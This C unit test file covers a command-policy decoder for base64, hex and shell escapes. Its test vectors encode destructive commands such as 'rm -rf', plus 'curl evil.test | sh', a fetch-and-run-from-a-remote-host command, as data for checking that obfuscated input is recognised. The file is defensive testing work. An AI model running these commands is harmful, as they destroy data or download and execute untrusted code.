#include "policy/decode.h"

#include "check.h"

#include <stdio.h>
#include <string.h>

/* As text, "-" for what is not of the encoding. */
static const char *text_of(ssize_t n, const char *out)
{
    static char text[64];

    (void) snprintf(text, sizeof text, "%.*s", n < 0 ? 1 : (int) n, n < 0 ? "-" : out);
    return text;
}

static void base64_is_read_as_lenient_tools_do(void)
{
    static const struct {
        const char *in, *out;
    } cases[] = {
        { "", "" },
        { "cm0gLXJm", "rm -rf" },
        { "cm0gLXI=", "rm -r" },
        { "cm0gLXI", "rm -r" },
        { "cm0\n gLXJm\n", "rm -rf" },
        { "cm0g=LXJm", "rm " },
        { "cm0*", "-" },
        { "P_8-", "?\xff>" },
        { "P/8+", "?\xff>" },
    };
    char out[64];

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        CHECK_STR(text_of(decode_base64(cases[i].in, strlen(cases[i].in), out), out), cases[i].out);
}

static void base64_is_decoded_in_place(void)
{
    char text[] = "Y3VybCBldmlsLnRlc3QgfCBzaA==";

    CHECK_STR(text_of(decode_base64(text, strlen(text), text), text), "curl evil.test | sh");
}

static void hexadecimal_comes_in_many_dresses(void)
{
    static const struct {
        const char *in, *out;
    } cases[] = {
        { "726d", "rm" },  { "72 6D\n", "rm" }, { "0x72,0x6d", "rm" }, { "\\x72\\x6d", "rm" },
        { "72:6d", "rm" }, { "72 6", "-" },     { "7g", "-" },         { "0x", "" },
        { "\\", "-" },     { "0", "-" },
    };
    char out[64];

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        CHECK_STR(text_of(decode_hex(cases[i].in, strlen(cases[i].in), out), out), cases[i].out);
}

static void escapes_are_those_of_the_shell(void)
{
    static const struct {
        const char *in, *out;
    } cases[] = {
        { "plain", "plain" },
        { "a\\tb\\\\c", "a\tb\\c" },
        { "\\x72\\x6d", "rm" },
        { "\\x7z", "\az" },
        { "\\162\\155", "rm" },
        { "\\0162m", "rm" },
        { "\\u0072m", "rm" },
        { "\\u20ac", "\xe2\x82\xac" },
        { "\\u80", "\xc2\x80" },
        { "\\e[0m\\E", "\033[0m\033" },
        { "\\cA", "\001" },
        { "a\\x00b\\0c\\c@d", "abcd" },
        { "\\xzz\\uzz", "\\xzz\\uzz" },
        { "\\q", "\\q" },
        { "end\\", "end\\" },
        { "\\c", "\\c" },
    };
    char out[64];

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        size_t len = strlen(cases[i].in);
        size_t n = decode_escapes(cases[i].in, len, out);

        CHECK(n <= len);
        CHECK_STR(text_of((ssize_t) n, out), cases[i].out);
    }
}

CHECK_MAIN(T(base64_is_read_as_lenient_tools_do), T(base64_is_decoded_in_place),
           T(hexadecimal_comes_in_many_dresses), T(escapes_are_those_of_the_shell))
